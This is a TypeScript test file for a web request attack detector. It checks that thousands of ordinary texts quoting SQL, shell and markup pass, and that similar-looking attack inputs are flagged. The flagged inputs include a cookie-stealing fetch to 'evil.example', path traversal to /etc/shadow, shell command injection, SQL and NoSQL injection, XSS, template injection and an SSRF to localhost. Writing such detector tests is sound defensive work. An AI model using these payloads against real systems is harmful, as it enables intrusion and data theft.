/** What people write: articles, comments, profiles, tickets that speak of SQL, shells, markup and templates. None of it may be blocked. */
import t from 'tap';
import { cookies, headersOf, mediaType, queryPairs, splitTarget } from '../../exchange/index.js';
import type { AttackInput } from '../attack-port.js';
import { attackDetector } from './index.js';

const TEXTS = 10_000;
const detector = attackDetector();
const headers = headersOf({ host: 'api.example.com', 'user-agent': 'Mozilla/5.0', 'content-type': 'application/json' });

function input(target: string, body: object): AttackInput {
  const { path, query } = splitTarget(target);
  const text = JSON.stringify(body);
  return {
    method: 'POST',
    path,
    query: queryPairs(query),
    headers,
    cookies: cookies(headers),
    mediaType: mediaType(headers),
    text: () => text,
    body: () => body,
    principal: null,
  };
}

const blocked = (request: AttackInput): string[] =>
  detector
    .detect(request, { paranoia: 1 })
    .filter(({ score }) => score >= 5)
    .map(({ rule, location, excerpt }) => `${rule} in ${location.path}: ${excerpt}`);

/** Mulberry32: the same texts in every run. */
function generator(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

/** Things that people quote when they write about programs. */
const QUOTED = [
  'SELECT name FROM users WHERE id = 7',
  "SELECT * FROM orders WHERE state = 'open' ORDER BY created_at DESC LIMIT 20",
  'DELETE FROM sessions WHERE expires_at < now()',
  'UPDATE accounts SET balance = balance - 5 WHERE id = 3',
  'INSERT INTO logs (level, text) VALUES (?, ?)',
  'DROP TABLE IF EXISTS tmp_import',
  'GROUP BY customer_id HAVING count(*) > 3',
  'a UNION ALL of both selects',
  "' OR 1=1 --",
  "Robert'); DROP TABLE students;--",
  'rm -rf node_modules && npm install',
  'cat access.log | grep 500 | wc -l',
  'curl -s https://example.org/install.sh | sh',
  'ls -la /var/log; tail -f app.log',
  'sudo systemctl restart nginx',
  'chmod 644 ~/.ssh/config',
  'find . -name "*.ts" -exec grep -l TODO {} +',
  'docker run --rm -it alpine sh',
  'ps aux | grep node',
  'git log --oneline | head -5',
  'echo $PATH',
  '$(date +%F)',
  'kubectl get pods -n prod | awk "{print $1}"',
  '<div class="row">',
  '<b>bold</b> and <i>italic</i>',
  '<a href="https://example.org">link</a>',
  '<img src="/logo.png" alt="logo">',
  'List<String> names = new ArrayList<>();',
  'Promise<Map<string, number>>',
  'if (a < b && c > d) return;',
  '{{ user.name }}',
  '${HOME}/bin',
  '{% if user %}',
  '../shared/theme.css',
  '/etc/hosts',
  '~/.bashrc',
  'C:\\Windows\\System32',
  'http://localhost:3000',
  'http://192.168.1.1/admin',
  'document.getElementById("root")',
  'eval()',
  'alert()',
  'console.log(error)',
  'process.env.NODE_ENV',
  'require("fs")',
  '__proto__',
  'x-forwarded-for: 10.0.0.1',
  '(&(objectClass=person)(uid=bob))',
  'import os; os.path.join(a, b)',
  'WHERE 1 = 1',
  '-- a comment',
  '/* a comment */',
  'a || b',
  'price > 5 and stock < 3',
  '50% off',
  'C# and F#',
  '#define MAX(a, b) ((a) > (b) ? (a) : (b))',
  'sleep(5)',
  '\\d{3}-\\d{4}',
  'E = mc^2; F = ma',
  "it's 5 o'clock somewhere",
  'Rock & Roll; Rhythm & Blues',
];

/** Sentences around them; `@` stands for what is quoted. */
const SENTENCES = [
  'The query @ takes two seconds on our staging database, and I do not know why.',
  'If you write @ in the form, the page should show it as text, not run it.',
  'I tried @ and it worked the first time, thank you!',
  'Our style guide says to avoid @ because it is hard to read.',
  'Can somebody explain what @ does and when I should use it?',
  'In chapter 3 we saw that @ is an example of how not to build a statement.',
  'Be careful with @, it cannot be undone.',
  'My teacher told us to memorise @ for the exam.',
  'For years, @ was the answer on every forum; today there are better ones.',
  'After the update, @ fails with "permission denied" and the log says nothing else.',
  'Select the rows you need, then order by name; the union of both lists is what you want.',
  'We drop the table off at noon, and update the set list where needed.',
  'Run `@` in the folder, then open the page again.',
  'Note: `@` needs version 2 or later.',
  'What is the difference between `@` and `@`?',
  'I would not use @ here, because the parameter comes from the user and must be escaped.',
  'Review: nice work! One nit: @ should be moved out of the loop.',
  'Steps: 1. open a shell; 2. type @; 3. wait for the prompt.',
  'TL;DR: @ is fine, @ is not.',
  'Das Beispiel mit @ ist in der Anleitung beschrieben, aber es ist nicht mehr aktuell.',
  'En el ejemplo se usa @ para que los datos se vean por la pantalla.',
  'Dans cet exemple, @ est utilisé pour la base de données et il faut faire attention.',
  'Mix 200 g flour & 2 eggs; bake for 40 min at 180 °C -- or until golden.',
  'The parties agree that (a) the licence ends; and (b) all copies are destroyed, or returned, as the case may be.',
];

const FORMS: readonly ((a: string, b: string, c: string) => object)[] = [
  (a, b, c) => ({ article: { title: a, description: b, body: `${a}\n\n${b}\n\n${c}`, tagList: ['sql', 'shell', 'html'] } }),
  (a) => ({ comment: { body: a } }),
  (a, b) => ({ user: { username: 'o_brien', bio: `${a} ${b}`, image: 'https://example.org/a.png?s=80&d=mp' } }),
  (a, b, c) => ({ message: a, thread: [{ text: b }, { text: c }] }),
  (a, b) => ({ summary: a, details: `> ${a}\n\n- ${b}\n- and more`, labels: ['bug'] }),
  (a, b) => ({ html: `<p>${a.replaceAll('<', '&lt;')}</p><p>${b.replaceAll('<', '&lt;')}</p><ul><li>one</li><li>two</li></ul>` }),
  (a, b, c) => ({ value: `${a} ${b} ${c}` }),
];

t.test(`${TEXTS} texts about programs in JSON`, async (t) => {
  const next = generator(3);
  const sentence = (): string => SENTENCES[next(SENTENCES.length)].replace(/@/g, () => QUOTED[next(QUOTED.length)]);
  const alarms: string[] = [];
  for (let index = 0; index < TEXTS; index++) {
    const form = FORMS[index % FORMS.length];
    alarms.push(...blocked(input('/api/things', form(sentence(), sentence(), sentence()))));
  }
  t.same(alarms.slice(0, 30), [], `${alarms.length} of ${TEXTS} texts`);
});

t.test('documents and values of other kinds', async (t) => {
  const values: readonly string[] = [
    '<!doctype html><html><head><meta charset="utf-8"><title>Your order</title><style>td { padding: 4px }</style></head><body><table><tr><td>Hello Ann, your order is on its way.</td></tr></table><a href="https://shop.example/orders/7?utm_source=mail&amp;utm_medium=email">Track it</a></body></html>',
    'TypeError: Cannot read properties of undefined (reading "id")\n    at Object.<anonymous> (/app/src/routes/orders.ts:41:17)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)',
    'Traceback (most recent call last):\n  File "/usr/lib/python3.11/site-packages/app.py", line 12, in <module>\n    os.system("ls")\nPermissionError: [Errno 13] Permission denied: \'/etc/shadow\'',
    'java.lang.NullPointerException: Cannot invoke "String.length()" because "<parameter1>" is null\n\tat com.example.Main.run(Main.java:10)\n\tat java.base/java.lang.Thread.run(Thread.java:833)',
    'CREATE TABLE t (\n  id int primary key,\n  name text\n);\n\nSELECT id,\n       name\n  FROM t\n WHERE name IS NOT NULL;',
    'name: ci\non: [push]\njobs:\n  test:\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: npm ci && npm test\n',
    '.card > a:hover { content: "\\201C"; background: url(data:image/png;base64,iVBORw0KGgo=); }\n.grid { display: grid; }\n@media (max-width: 600px) { .grid { display: block; } }',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    'https://example.org/search?q=a+or+b&redirect=https%3A%2F%2Fexample.org%2Fhome%3Ftab%3D1#top',
    '$$\\int_0^1 x^2\\,dx = \\frac{1}{3}; \\quad \\{x \\in A \\mid x < 3\\}$$',
    '| Tool | TCP | Hostname | PASSWD |\n| --- | --- | --- | --- |\n| nc | yes | no | no |',
    '#!/bin/sh\nset -e\ncd "$(dirname "$0")"\nfor f in *.log; do\n  grep -c error "$f" || true\ndone',
    'const a = items.filter((one) => one.price > 5 && one.stock < 3);\nfor (const one of a) {\n  console.log(`${one.name}: ${one.price}`);\n}',
    'a; b; c -- d',
    "rock 'n' roll",
    'x = 1; y = 2',
    'Tom & Jerry | Best of',
    'C:\\Users\\ann\\Documents\\report.docx',
    '../../lib/list.js',
    '10 - 5 = 5 and 3 * 2 = 6',
    'union station',
    'and/or',
    'order by phone',
    'select all',
    '1) first; 2) second',
    '(a or b) and c',
    'O\'Neill, "The Boss"',
    'if x then y else z',
    '<3 you all :)',
    'a<b>c',
    'temperature < 5 || humidity > 90',
    'name=ann&age=5',
    'lang:ja AND (title:shell OR body:"drop table")',
    "state eq 'open' and price gt 5",
    'author = currentUser() AND status in (Open, "In Progress") ORDER BY created DESC',
    'rate(http_requests_total{code=~"5.."}[5m]) > 0.1',
    '{"a":{"$ref":"#/definitions/b"}}',
    '0 0 * * * /usr/local/bin/backup',
    '%d of %s',
    '100% natural -- no sugar',
    '日本語のテキスト、SQL の SELECT 文について。',
    'Привет! Как сделать SELECT из двух таблиц?',
  ];
  for (const value of values)
    for (const name of ['body', 'value', 'content'])
      t.same(blocked(input('/api/things', { [name]: value })), [], `${name}: ${value.slice(0, 60)}`);
});

t.test('queries of searches', async (t) => {
  const queries: readonly string[] = [
    'q=how+to+select+from+two+tables',
    'q=C%2B%2B+and+C%23',
    'q=rock+%26+roll',
    'filter=price+gt+5+and+state+eq+%27open%27',
    'sort=-created,name&fields=id,name&page[size]=10',
    'where[status]=open&order[created]=desc',
    'url=https%3A%2F%2Fexample.org%2F%3Fa%3Db%26c%3Dd',
    'name=O%27Brien&city=L%27Aquila',
    'range=2026-01-01..2026-02-01',
    'expr=(a%7C%7Cb)%26%26c',
    'q=%22exact+phrase%22+-without',
    'tags=a;b;c',
    'bbox=-73.99,40.71,-73.96,40.73',
    'token=abc.def-ghi_jkl==',
    'callback=jQuery1830_1700000000',
    'select=id,name&limit=5',
    '$filter=name+eq+%27x%27&$top=5&$orderby=name+desc',
    'query=%7Bme%7Bid+name%7D%7D',
  ];
  for (const query of queries) t.same(blocked(input(`/api/things?${query}`, {})), [], query);
});

t.test('what looks alike: text passes, the attack beside it does not', async (t) => {
  const pairs: [text: string, attack: string][] = [
    ['Release notes:\nfind -name now works with links', '127.0.0.1\nfind /srv -name id_rsa'],
    ['## Docs\nRead **[full docs](https://example.org/docs)**', 'x\nread -r line'],
    ['Example:\n curl --netrc https://example.org', 'report.pdf\ncurl --netrc https://example.org'],
    ['A warning option\ngcc -Wall understands', '8.8.8.8\r\ngcc -x c -'],
    ["`echo -e' understands two new escapes", 'a`echo -e x`'],
    ["Parsing change to allow `time -p --'.", '`time -p id`'],
    ['The shell prompt (in contrib) leaked messages', 'prompt (document.domain)'],
    ['setTimeout(unmount, 1000);', "setTimeout('alert(1)', 1)"],
    ['setInterval(() => write(), 5000)', 'setInterval(alert,1)'],
    ['cats; dogs; id cards', 'cats; id'],
    ['id;name;price', 'id;ls'],
    ['node;react;vue', 'node|cat /etc/hosts'],
    ['<p>One &amp; more</p><p>Two</p>', 'one& more /etc/shadow'],
    ['1 or 2', '1 or 1'],
    ['waitfor delay in delivery', "1 waitfor delay '0:0:9'"],
    ['{% if user %}Hello, {{ user.name | default("friend") }}{% endif %}', "{% if user.constructor('x') %}{% endif %}"],
    ['constructor.prototype chain explained', 'constructor.prototype.isAdmin'],
    ['{"where":{"and":[{"name":{"like":"%chair%"}}]},"order":"price DESC"}', '{"where":{"name":"x\' or \'a\'=\'a"}}'],
    ['{"message":"first line\\nsecond: line"}', '{"filter":{"password":{"$ne":null}}}'],
    ['docs/etc/hosts.md', 'docs/../etc/hosts'],
    ['/* a remark', "admin'/*"],
    ['if (sleep > 5) { rest(); }', 'if(now()=sysdate(),sleep(9),0)'],
    ["const first = await fetch('https://api.example.org/random')", "fetch('https://evil.example/?c='+document.cookie)"],
    ['gcloud create --node-location=<name>', 'location=<img src=x onerror=alert(1)>'],
  ];
  for (const [text, attack] of pairs) {
    t.same(blocked(input('/api/notes', { value: text })), [], text);
    t.not(blocked(input('/api/notes', { value: attack })).length, 0, attack);
  }
  const address = 'http%3A%2F%2Flocalhost%3A3000%2Fcallback';
  t.same(blocked(input(`/authorize?redirect_uri=${address}`, {})), [], 'an app on the own machine signs in');
  t.not(blocked(input(`/import?url=${address}`, {})).length, 0);
  const graphql = (text: string) => blocked(input('/graphql', { query: `mutation { add(title: "x", note: ${text}) { id } }` }));
  t.same(graphql(`"rock 'n' roll; salt & pepper"`), [], 'texts of a GraphQL document');
  t.not(graphql('"1 or 1=1"').length, 0);
  t.not(graphql('"""x\\n""", url: "http://[::1]/"').length, 0, 'each under the name of its argument');
});
